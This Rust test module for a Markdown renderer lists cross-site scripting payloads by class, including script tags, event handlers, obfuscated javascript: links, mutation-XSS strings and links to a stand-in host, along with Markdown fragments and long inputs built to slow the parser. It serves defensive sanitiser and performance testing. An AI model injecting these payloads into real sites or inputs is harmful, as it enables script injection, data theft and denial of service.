//! Attacks by class (docs/security.md 1.6), written for this project, and inputs that want to be slow.

#[rustfmt::skip]
pub const ATTACKS: &[&str] = &[
    // raw HTML
    "<script>alert(1)</script>", "<ScRiPt src=//e.example></sCrIpT>", "<script\n>alert(1)</script\n>", "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "text <img src=x onerror='alert(1)'> text", "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import url(//e.example)</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=data:text/html,x></object>",
    "<embed src=//e.example>", "<form action=//e.example><input name=password></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//e.example>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=//e.example>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<a href=javascript:alert(1)>x</a>",
    "<a href=\"/logout\" class=\"mention\" id=\"r1-fn-1\">x</a>", "<div class=\"table-scroll\" onclick=alert(1)>x</div>", "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?php <script>alert(1)</script> ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    // breaking out of where a text is shown
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</noscript><img src=x onerror=alert(1)>", "--><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "</code></pre><script>alert(1)</script>", "]]><script>alert(1)</script>",
    // links
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))", "[x](&#x6A;avascript&colon;alert(1))", "[x](javascript&#58alert(1))", "[x](\\javascript:alert(1))", "[x]( javascript:alert(1))",
    "[x](<\u{1}javascript:alert(1)>)", "[x](<\u{a0}javascript:alert(1)>)", "[x](\u{200b}javascript:alert(1))", "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:image/svg+xml,<svg/onload=alert(1)>)", "[x](file:///etc/passwd)",
    "[x](blob:https://e.example/1)", "[x](filesystem:https://e.example/1)", "[x](intent://e.example)", "[x](view-source:https://e.example)", "[x](//e.example)", "[x](/\\e.example)",
    "[x](\\\\e.example)", "[x](/\t/e.example)", "[x](https:/\\e.example)", "[x](http://a\" onmouseover=\"alert(1))", "[x](http://a 'title\" onmouseover=alert(1) x=\"')",
    "[x](http://a \"\\\"><script>alert(1)</script>\")", "[x](/a \"&quot; onclick=&quot;alert(1)\")", "[x][r]\n\n[r]: javascript:alert(1) \"t\"", "[r]\n\n[r]: <java\nscript:alert(1)>",
    "[a](javascript:alert(1)//[b](/c))", "[![x](javascript:alert(1))](javascript:alert(2))", "[<img src=x onerror=alert(1)>](http://a)",
    "[x](http://javascript:alert(1)@e.example)", "[x](http://[::1]\"onclick=alert(1))", "[x](mailto:a@b.example?body=<script>)", "[x](tel:<script>)", "[x](http://é.example/ü?<>)",
    // autolinks
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,<script>>", "<http://a\"onmouseover=alert(1)>", "http://a\"onmouseover=\"alert(1)", "www.a.example\"><script>alert(1)</script>",
    "https://e.example/<script>alert(1)</script>", "a@b.example\"onclick=alert(1)", "<a@b.example\"onclick=alert(1)>", "xmpp:a@b.example/javascript:alert(1)",
    // images
    "![x](javascript:alert(1))", "![x](https://e.example/pixel.gif)", "![\" onerror=\"alert(1)](/files/1)", "![x](/files/1 \"\\\" onload=\\\"alert(1)\")", "![x](/files/../../logout)",
    "![x](/files/%2e%2e/logout)", "![x](/files/%2E./logout)", "![x](//e.example/files/1)", "![x](/files/\\..\\logout)", "![x](data:image/png;base64,AAAA)", "![<script>](/files/1)", "![![x](/files/1)](/files/2)",
    "[![x](https://e.example/a)](https://e.example/b)", "![x](/FILES/1)", "![x](/files/?\"onload=alert(1))",
    // entities
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;script&amp;gt;", "&#0;&#xD800;&#x110000;&#128;", "&#x202E;evil&#x202C;", "\u{202e}evil",
    // code, headings, footnotes, tables, mentions, tasks
    "```\"><script>alert(1)</script>\nx\n```", "```x\" onclick=\"alert(1)\nx\n```", "``` language-x&quot;y\nx\n```", "~~~<b>\n</code></pre><script>alert(1)</script>\n~~~", "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script> {onclick=alert(1)}", "x[^\"><script>]\n\n[^\"><script>]: y", "x[^a]\n\n[^a]: [y](javascript:alert(1))", "x[^a b\" onclick=alert(1)]\n\n[^a b\" onclick=alert(1)]: y",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |", "|a|\n|:-\"onclick=alert(1)|\n", "@ben\"><script>", "[@ben](javascript:alert(1))", "- [x] <script>alert(1)</script>", "- [\">] x",
    // mutation: what a second parser may read differently
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<table><td><a><table></a><img src=x onerror=alert(1)>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<plaintext>x",
    "<b><i></b></i><p><table><b>", "<a href=\"/x\"><a href=\"/y\">", "\u{feff}<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<\u{fe64}script>", "\u{ff1c}script\u{ff1e}alert(1)",
];

/// What Markdown is made of.
#[rustfmt::skip]
pub const PARTS: &[&str] = &[
    "\n", "\n\n", "\n    ", "\n> ", "\n- ", "\n1. ", "\n- [x] ", "\n# ", "\n```x\n", "\n---\n", "|", "\n|-|-|\n", "*", "**", "_", "~~", "`", "[", "](", ")", "![", "](/files/1)",
    "[^a]", "\n[^a]: ", "\n[r]: /x\n", "[r]", "<", ">", "</", "<!--", "-->", "&", ";", "\\", "\"", "'", "@ben",
    "@", " ", "\t", "\r", "a", "é", "👩‍🏫", "\u{a0}", "\u{0}", "\u{202e}", "www.a.example", "http://", "mailto:",
];

/// Short texts that want to be slow when they fill a post.
#[rustfmt::skip]
const SLOW: &[&str] = &[
    "> ", ">", "- ", "+ ", "* ", "1. ", "- > ", "[", "]", "*", "_", "`", "~", "![", "[](", "[^", "<div>", "<div>\n", "<", "<!--", "</a>", "\"", "*_", "*a **a ",
    "*a_ ", "**x", "`a ", "a@", "@a", "@abc ", "www.a ", "http://", "http://a.b ", "|", "|a", "- [ ] \n", "-\n", "#\n", "> a\n\n", "+ > a\n", "~~~\n", "[a]: b\n",
    "[^1]", "[^1]:", "&amp;", "\\", "\\\n", "\t", "\n", "a\n", "a|b\n-|-\n", "👩‍🏫", "\u{202e}", "\r",
];

/// Posts that want to be slow. `&` and `§` are shorter: html5ever looks for the next `<` from each of them, which costs
/// 18 ms in an optimised build but 3 s with an unoptimised memchr.
pub fn slow() -> Vec<String> {
    let fill = |part: &&str| part.repeat(32_000 / part.chars().count());
    let mut texts: Vec<String> = SLOW.iter().map(fill).collect();
    texts.extend(["&".repeat(8_000), "§".repeat(8_000), "> ".repeat(1_000)]);
    texts.push((0..178).map(|depth| format!("{}- a\n", "  ".repeat(depth))).collect());
    texts.push("- ".repeat(49) + "a\n" + &"b\n".repeat(15_000));
    texts.push(format!("{}{}", "> ".repeat(50), "a\n".repeat(15_000)));
    texts.push(format!("{}|\n{}|\n{}", "|a".repeat(4_000), "|-".repeat(4_000), "a\n".repeat(8_000)));
    texts.push("*a **a ".repeat(2_000) + &" a** a*".repeat(2_000));
    texts.push("[".repeat(10_000) + &"](a)".repeat(5_000));
    texts.push("[a]: /b\n\n".to_owned() + &"[a]".repeat(10_000));
    texts.push("[^a]: b\n\n".to_owned() + &"[^a]".repeat(7_000));
    texts.push((1..170).chain((1..170).rev()).map(|n| "`".repeat(n) + "a").collect());
    texts
}
